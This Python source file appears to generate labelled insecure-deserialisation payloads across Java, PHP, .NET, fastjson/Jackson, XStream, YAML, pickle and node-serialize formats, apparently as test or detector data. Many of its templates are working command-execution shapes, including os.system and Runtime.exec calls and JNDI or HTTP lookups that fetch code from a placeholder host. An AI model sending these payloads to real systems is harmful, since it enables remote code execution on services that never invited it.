"""Insecure deserialisation: serialised objects of gadget classes, in the shapes their formats have on
the wire (Java object streams in base64 or hex, PHP serialize(), .NET BinaryFormatter and Json.NET
type names, fastjson/Jackson polymorphic JSON, XStream XML, YAML tags, Python pickles, node-serialize
functions). The byte streams are built here with the real headers and a gadget's class name; the
rest of each stream is filler, as a label by construction allows.
"""
import base64
import gzip
import struct
from urllib.parse import quote

JAVA_GADGETS = """org.apache.commons.collections.functors.InvokerTransformer org.apache.commons.collections4.comparators.TransformingComparator
java.util.PriorityQueue sun.reflect.annotation.AnnotationInvocationHandler org.springframework.beans.factory.ObjectFactory
com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl javax.management.BadAttributeValueExpException
org.hibernate.engine.spi.TypedValue clojure.lang.PersistentArrayMap org.apache.commons.beanutils.BeanComparator
com.mchange.v2.c3p0.WrapperConnectionPoolDataSource org.codehaus.groovy.runtime.ConvertedClosure java.net.URL
org.apache.commons.collections.keyvalue.TiedMapEntry com.sun.syndication.feed.impl.ObjectBean
org.jboss.interceptor.proxy.InterceptorMethodHandler java.util.HashSet org.mozilla.javascript.NativeError
com.vaadin.data.util.PropertysetItem org.apache.wicket.util.upload.DiskFileItem""".split()
PHP_GADGETS = ["stdClass", "Monolog\\Handler\\SyslogUdpHandler", "Illuminate\\Broadcasting\\PendingBroadcast",
               "GuzzleHttp\\Cookie\\FileCookieJar", "Symfony\\Component\\Cache\\Adapter\\ApcuAdapter", "Laminas\\Log\\Logger",
               "Swift_Transport_SendmailTransport", "Requests_Utility_FilteredIterator", "WC_Log_Handler_File", "yii\\db\\BatchQueryResult",
               "Zend_Log", "CodeIgniter\\Cache\\Handlers\\RedisHandler", "Monolog\\Handler\\BufferHandler", "Illuminate\\Validation\\Rules\\RequiredIf",
               "Doctrine\\Common\\Cache\\Psr6\\CacheAdapter", "User", "Session", "Cart"]
DOTNET_GADGETS = ["System.Windows.Data.ObjectDataProvider", "System.Security.Claims.ClaimsIdentity", "System.Data.DataSet",
                  "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", "System.Windows.Forms.AxHost+State",
                  "System.Security.Principal.WindowsIdentity", "System.Configuration.Install.AssemblyInstaller",
                  "System.Management.Automation.PSObject", "System.Web.Security.RolePrincipal", "System.IdentityModel.Tokens.SessionSecurityToken",
                  "System.Windows.ResourceDictionary", "System.Activities.Presentation.WorkflowDesigner"]
DOTNET_ASSEMBLIES = ["PresentationFramework", "mscorlib", "System", "System.Data", "System.Windows.Forms", "System.Management.Automation",
                     "System.Configuration.Install", "System.Web", "Microsoft.PowerShell.Editor", "System.IdentityModel"]
JNDI_SINKS = ["com.sun.rowset.JdbcRowSetImpl", "org.apache.xbean.propertyeditor.JndiConverter", "com.zaxxer.hikari.HikariConfig",
              "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "org.apache.commons.configuration.JNDIConfiguration",
              "br.com.anteros.dbcp.AnterosDBCPConfig", "org.apache.shiro.jndi.JndiObjectFactory", "com.caucho.config.types.ResourceRef",
              "oracle.jdbc.connector.OracleManagedConnectionFactory", "org.apache.ibatis.datasource.jndi.JndiDataSourceFactory"]

# (technique, template). {java_b64}, {php_obj}, ... are built by the functions below; {cmd}, {host}, {w} as elsewhere.
DESERIALIZATION = [
    ("java", "{java_b64}"), ("java", "{java_hex}"), ("java", "{java_b64_url}"), ("java", "{java_gzip_b64}"), ("java", "={java_pct}"),
    ("java", "{\"{w}\":\"{java_b64}\"}"), ("java", "{java_b64_lines}"),
    ("php", "{php_obj}"), ("php", "a:2:{i:0;s:{wlen}:\"{w}\";i:1;{php_obj}}"), ("php", "C:11:\"ArrayObject\":{alen}:{x:i:0;{php_obj};m:a:0:{}}"),
    ("php", "{php_obj_plus}"), ("php", "{php_b64}"), ("php", "a:1:{s:{wlen}:\"{w}\";{php_obj}}"), ("php", "phar://uploads/{w}.jpg/{w}.txt"),
    ("dotnet", "{dotnet_b64}"), ("dotnet", "{jsonnet}"), ("dotnet", "{\"__type\":\"{dotnet_type}, {dotnet_asm}\",\"{w}\":\"{cmd}\"}"),
    ("dotnet", "{\"$type\":\"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install\",\"Path\":\"file:////{host}/share/{w}.dll\"}"),
    ("dotnet", "{\"$type\":\"{dotnet_type}, {dotnet_asm}\",\"{w}\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json_polymorphic", "{\"@type\":\"{sink}\",\"dataSourceName\":\"ldap://{host}/{w}\",\"autoCommit\":true}"),
    ("json_polymorphic", "{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"{sink}\"},\"b\":{\"@type\":\"{sink}\",\"dataSourceName\":\"rmi://{host}:1099/{w}\",\"autoCommit\":true}}"),
    ("json_polymorphic", "{\"@type\":\"java.net.Inet4Address\",\"val\":\"{id}.{host}\"}"),
    ("json_polymorphic", "{\"@type\":\"{sink}\",\"AsText\":\"ldap://{host}/{w}\"}"),
    ("json_polymorphic", "[\"{sink}\",{\"dataSourceName\":\"ldap://{host}/{w}\",\"autoCommit\":true}]"),
    ("json_polymorphic", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{host}/{w}.sql'\"}]"),
    ("json_polymorphic", "[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://{host}/{w}.xml\"]"),
    ("json_polymorphic", "{\"@class\":\"{sink}\",\"jndiName\":\"ldap://{host}:1389/{w}\",\"loginTimeout\":0}"),
    ("json_polymorphic", "{\"{w}\":[\"{sink}\",{\"jndiName\":\"rmi://{host}/{w}\"}]}"),
    ("xml", "<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>{cmd0}</string><string>{arg}</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("xml", "<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue><default><size>2</size></default><int>3</int><javax.naming.ldap.Rdn_-RdnEntry><type>{w}</type></javax.naming.ldap.Rdn_-RdnEntry></java.util.PriorityQueue></java.util.PriorityQueue>"),
    ("xml", "<java version=\"1.8\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\"><string>{cmd}</string></void></object></java>"),
    ("xml", "<ObjectDataProvider MethodName=\"Start\" xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:sd=\"clr-namespace:System.Diagnostics;assembly=System\"><ObjectDataProvider.ObjectInstance><sd:Process/></ObjectDataProvider.ObjectInstance><ObjectDataProvider.MethodParameters><x:String>cmd</x:String><x:String>/c {cmd}</x:String></ObjectDataProvider.MethodParameters></ObjectDataProvider>"),
    ("yaml", "!!python/object/apply:os.system [\"{cmd}\"]"), ("yaml", "!!python/object/apply:subprocess.check_output [[\"{cmd0}\", \"{arg}\"]]"),
    ("yaml", "!!python/object/new:os.system [{cmd}]"), ("yaml", "{w}: !!python/object/apply:builtins.eval [\"__import__('os').system('{cmd}')\"]"),
    ("yaml", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"{w}\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: {cmd}\n       method_id: :resolve"),
    ("yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{host}/{w}.jar\"]]]]"),
    ("yaml", "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://{host}/{w}\", autoCommit: true}"),
    ("yaml", "!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://{host}/{w}.xml\"]"),
    ("yaml", "{w}: !ruby/object:Gem::Requirement\n  requirements: !ruby/object:Gem::DependencyList\n    specs: [!ruby/object:Gem::Source {cmd}]"),
    ("yaml", "!!python/name:os.system"), ("yaml", "- !!python/object/apply:os.popen [\"{cmd}\"]"),
    ("python", "{pickle_b64}"), ("python", "{pickle_text}"), ("python", "{pickle_hex}"), ("python", "{\"{w}\":\"{pickle_b64}\"}"),
    ("python", "={pickle_pct}"),
    ("node", "{\"{w}\":\"_$$ND_FUNC$$_function(){require('child_process').exec('{cmd}', function(e,s){console.log(s)})}()\"}"),
    ("node", "_$$ND_FUNC$$_function(){return require('child_process').execSync('{cmd}')}()"), ("node", "{node_b64}"),
    ("node", "{\"__js_function\":\"function(){var p=process.mainModule.require('child_process');p.exec('{cmd}')}()\"}"),
]
# Where a serialised value travels: names of cookies-in-parameters, state and blob fields.
SERIALIZED_PARAMS = ["session", "data", "state", "token", "object", "payload", "remember_me", "cart", "prefs", "user", "viewdata",
                     "obj", "blob", "auth", "profile", "rememberMe", "ser", "export"]
YAML_TYPES = ["application/x-yaml", "text/yaml", "application/yaml", "text/x-yaml"]


def java_stream(rng, gadget: str, command: str) -> bytes:
    """A Java object stream: magic, version, TC_OBJECT TC_CLASSDESC, the class name, a serialVersionUID,
    then filler holding the command as a TC_STRING."""
    name = gadget.encode()
    head = b"\xac\xed\x00\x05\x73\x72" + struct.pack(">H", len(name)) + name + bytes(rng.randrange(256) for _ in range(8))
    filler = bytes(rng.randrange(256) for _ in range(rng.randint(20, 160)))
    text = command.encode()
    return head + b"\x02\x00" + filler + b"\x74" + struct.pack(">H", len(text)) + text + b"\x78\x70"


def php_object(cls: str, props: list, plus: bool = False) -> str:
    body = "".join(f's:{len(k.encode())}:"{k}";' + (f's:{len(v.encode())}:"{v}";' if isinstance(v, str) else f"i:{v};") for k, v in props)
    return f'O:{"+" if plus else ""}{len(cls)}:"{cls}":{len(props)}:{{{body}}}'


def dotnet_stream(rng, gadget: str, assembly: str) -> bytes:
    """BinaryFormatter: SerializationHeaderRecord, BinaryLibrary with the assembly, ClassWithMembersAndTypes."""
    library = f"{assembly}, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35".encode()
    name = gadget.encode()
    return (b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00" + bytes([len(library)]) + library
            + b"\x05\x01\x00\x00\x00" + bytes([len(name)]) + name + bytes(rng.randrange(256) for _ in range(rng.randint(20, 120))))


def pickle_bytes(rng, module: str, function: str, command: str) -> bytes:
    """Protocol 0 (text) or protocol 4 (binary) pickle calling module.function(command) on load."""
    if rng.random() < 0.4:
        return f"c{module}\n{function}\n(S'{command}'\ntR.".encode()
    parts = b"\x8c" + bytes([len(module)]) + module.encode() + b"\x94\x8c" + bytes([len(function)]) + function.encode() + b"\x94\x93\x94"
    parts += b"\x8c" + bytes([len(command.encode()) % 256]) + command.encode() + b"\x94\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(parts)) + parts


PICKLE_CALLS = [("os", "system"), ("posix", "system"), ("subprocess", "check_output"), ("builtins", "eval"), ("nt", "system"),
                ("__builtin__", "eval"), ("subprocess", "Popen"), ("os", "popen")]


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def gzip_b64(data: bytes) -> str:
    return b64(gzip.compress(data, mtime=0))


def percent(data: bytes) -> str:
    """Every byte percent-encoded, as a raw stream is sent in a query or form value."""
    return quote(data, safe="")
